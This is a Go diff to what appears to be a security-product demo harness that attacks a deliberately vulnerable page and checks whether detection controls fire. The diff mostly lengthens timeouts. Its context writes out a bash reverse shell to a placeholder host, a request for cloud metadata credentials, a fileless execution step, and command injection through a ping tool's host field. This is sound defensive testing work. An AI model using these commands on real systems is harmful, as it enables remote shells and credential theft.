@@ -66,7 +66,7 @@ func (d *demo) attacks() []attack {
 			"if [ -x /bin/bash ]; then bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'; else " + site + " shell 203.0.113.66:4444; fi",
 			"", nil, func(before, after seen) bool { return after.Shells > before.Shells }},
 		{"a request for cloud credentials", "metadataEndpoints",
-			"u=http://169.254.169.254/latest/meta-data/iam/security-credentials/; if command -v curl >/dev/null; then curl -sS -m 3 $u; else " + site + " fetch $u; fi",
+			"u=http://169.254.169.254/latest/meta-data/iam/security-credentials/; if command -v curl >/dev/null; then curl -sS -m 20 $u; else " + site + " fetch $u; fi",
 			"", nil, func(before, after seen) bool { return after.Metadata > before.Metadata }},
 		{"a program run from memory", "fileless", site + " memfd", "", program, printed(ran)},
 	}
@@ -177,8 +177,13 @@ func (d *demo) attackOnce(ctx context.Context, t target, a attack, verdict strin
 		return outcome{}, err
 	}
 	o := outcome{output: out}
-	// What reached the attacker's host may be counted a moment later.
-	err = poll(ctx, 2*time.Second, 100*time.Millisecond, func() (bool, error) {
+	// What reached the attacker's host may be counted a moment later, on a busy
+	// machine more than a moment; in enforce mode nothing is to come.
+	moment := 2 * time.Second
+	if verdict == "audit" {
+		moment = 20 * time.Second
+	}
+	err = poll(ctx, moment, 100*time.Millisecond, func() (bool, error) {
 		after, err := report(ctx, t)
 		after.output = out
 		o.won = err == nil && a.won(before, after)
@@ -192,11 +197,11 @@ func (d *demo) attackOnce(ctx context.Context, t target, a attack, verdict strin
 }
 
 // findEvent waits for an event of the control with the verdict; none within
-// ten seconds is not an error but a nil event.
+// half a minute is not an error but a nil event.
 func (d *demo) findEvent(ctx context.Context, control, verdict string, since time.Time) (*event, error) {
 	q := url.Values{"control": {control}, "verdict": {verdict}, "from": {since.UTC().Format(time.RFC3339Nano)}, "limit": {"1"}}
 	var found *event
-	err := poll(ctx, 10*time.Second, 200*time.Millisecond, func() (bool, error) {
+	err := poll(ctx, 30*time.Second, 200*time.Millisecond, func() (bool, error) {
 		var page struct{ Items []event }
 		if _, err := d.api.do(ctx, "GET", "/events?"+q.Encode(), "", nil, &page); err != nil {
 			return false, err
@@ -214,7 +219,7 @@ func (d *demo) findEvent(ctx context.Context, control, verdict string, since tim
 
 // inject sends a command through the page's hole and gives what it printed.
 func inject(ctx context.Context, t target, command string, stdin []byte) (string, error) {
-	ctx, cancel := context.WithTimeout(ctx, 20*time.Second)
+	ctx, cancel := context.WithTimeout(ctx, time.Minute)
 	defer cancel()
 	u := t.Hole() + "/tools/ping?host=" + url.QueryEscape("localhost; "+command)
 	return get(ctx, http.MethodPost, u, stdin)
@@ -242,7 +247,7 @@ func get(ctx context.Context, method, u string, body []byte) (string, error) {
 	if err != nil {
 		return "", err
 	}
-	c := http.Client{Timeout: 20 * time.Second, Transport: &http.Transport{Proxy: nil, DisableKeepAlives: true}}
+	c := http.Client{Timeout: time.Minute, Transport: &http.Transport{Proxy: nil, DisableKeepAlives: true}}
 	resp, err := c.Do(req)
 	if err != nil {
 		return "", err
